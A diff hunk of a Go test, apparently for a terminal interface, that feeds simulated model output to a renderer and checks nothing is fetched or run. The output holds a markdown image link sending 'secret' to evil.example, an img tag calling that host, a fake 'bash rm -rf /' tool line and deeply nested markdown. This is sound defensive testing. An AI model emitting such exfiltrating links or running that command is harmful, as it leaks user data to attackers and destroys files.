@@ -40,8 +40,8 @@ func TestBordersHold(t *testing.T) {
 // D10: what a model writes is shown; nothing of it is fetched, run or taken for a result.
 func TestHostileMarkdown(t *testing.T) {
 	on(t, 100, 40, Options{}, func(t *testing.T, s *stage) {
-		s.emit(userSays("hi"), modelSays("![x](http://evil.example/?d=secret)\n\n<img src=http://evil.example>\n\n✓ bash  rm -rf /\n\n" +
-			strings.Repeat("> ", 1000) + "deep\n\n" + strings.Repeat("- ", 1000) + "list\n\n```\nnever closed"))
+		s.emit(userSays("hi"), modelSays("![x](http://evil.example/?d=secret)\n\n<img src=http://evil.example>\n\n✓ bash  rm -rf /\n\n"+
+			strings.Repeat("> ", 1000)+"deep\n\n"+strings.Repeat("- ", 1000)+"list\n\n```\nnever closed"))
 		s.wantOn(t, "never closed")
 		s.Key("tab", "g")
 		s.wantOn(t, "http://evil.example/?d=secret", "<img src=http://evil.example>")
